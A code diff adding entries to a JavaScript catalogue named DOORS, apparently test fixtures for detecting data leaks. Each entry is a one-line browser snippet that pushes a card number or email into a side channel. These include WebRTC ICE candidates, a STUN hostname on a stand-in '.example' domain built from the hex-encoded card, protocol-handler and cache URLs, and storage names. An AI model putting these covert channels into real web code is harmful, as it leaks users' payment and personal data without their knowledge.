@@ -161,6 +161,9 @@ export const DOORS = {
   "why a WebSocket is closed": "const s = new WebSocket(socket); await new Promise((open) => (s.onopen = open)); s.close(1000, card);",
   "a WebTransport datagram": "const t = new WebTransport('https://127.0.0.1:9'); t.ready.catch(() => {}); t.closed.catch(() => {}); t.datagrams.writable.getWriter().write(new TextEncoder().encode(card)).catch(() => {});",
   "a WebRTC channel's name": "new RTCPeerConnection().createDataChannel(card);",
+  "a WebRTC candidate": "new RTCPeerConnection().addIceCandidate({ candidate: 'candidate:1 1 udp 1 ' + btoa(card) + ' 9 typ host', sdpMid: '0' }).catch(() => {});",
+  "a WebRTC server that is set later": "new RTCPeerConnection().setConfiguration({ iceServers: [{ urls: 'stun:' + [...card].map((c) => c.charCodeAt(0).toString(16)).join('') + '.example' }] });",
+  "a folder of the private file system": "await (await navigator.storage.getDirectory()).getDirectoryHandle(btoa(card), { create: true });",
   "the private file system, by a stream": "const f = await (await navigator.storage.getDirectory()).getFileHandle('f', { create: true }); const w = (await f.createWritable()).getWriter(); await w.write(card); await w.close();",
   "bytes in IndexedDB": `const db = await new Promise((done) => { const r = indexedDB.open('shop', 1);
     r.onupgradeneeded = () => r.result.createObjectStore('s', { autoIncrement: true }); r.onsuccess = () => done(r.result); });
@@ -169,7 +172,13 @@ export const DOORS = {
     r.onupgradeneeded = () => r.result.createObjectStore('s', { autoIncrement: true }).add(1); r.onsuccess = () => done(r.result); });
     await new Promise((done) => { db.transaction('s', 'readwrite').objectStore('s').openCursor().onsuccess = ({ target }) => { target.result.update({ card }); done(); }; });`,
   "the password store": "navigator.credentials.store(new PasswordCredential({ id: email, password: card })).catch(() => {});",
+  "a credential of another provider": "new FederatedCredential({ id: email, provider: 'https://id.example' });",
   "a broadcast channel's name": "new BroadcastChannel(email);",
+  "what is dragged": "new DataTransfer().setData('text/plain', card);",
+  "a protocol handler": "navigator.registerProtocolHandler('web+shop', '/t?%s&' + btoa(card));",
+  "the state of a navigation": "navigation.updateCurrentEntry({ state: { draft: card } });",
+  "an index of IndexedDB": "const r = indexedDB.open('shop', 1); r.onupgradeneeded = () => r.result.createObjectStore('s').createIndex(email, 'x'); await new Promise((done) => { r.onsuccess = done; });",
+  "a Cache of many": "await (await caches.open('c')).addAll(['/t?' + btoa(card)]).catch(() => {});",
   "a payment request": "new PaymentRequest([{ supportedMethods: 'https://pay.example', data: { payer: email } }], { total: { label: 'Total', amount: { currency: 'EUR', value: '1' } } });",
   "a notification": "try { new Notification('Order', { body: name }); } catch {}",
   "a worker's name": "new Worker('/worker.js', { name: card });",
